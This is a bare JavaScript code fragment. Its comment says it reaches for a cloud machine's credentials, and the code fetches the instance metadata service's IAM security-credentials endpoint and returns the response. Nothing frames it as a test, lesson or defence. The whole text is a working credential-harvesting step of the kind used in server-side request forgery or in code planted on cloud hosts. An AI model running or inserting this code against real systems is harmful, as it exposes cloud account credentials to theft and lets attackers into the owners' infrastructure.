// Reaches for the credentials of a cloud machine.
const response = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
return await response.text();
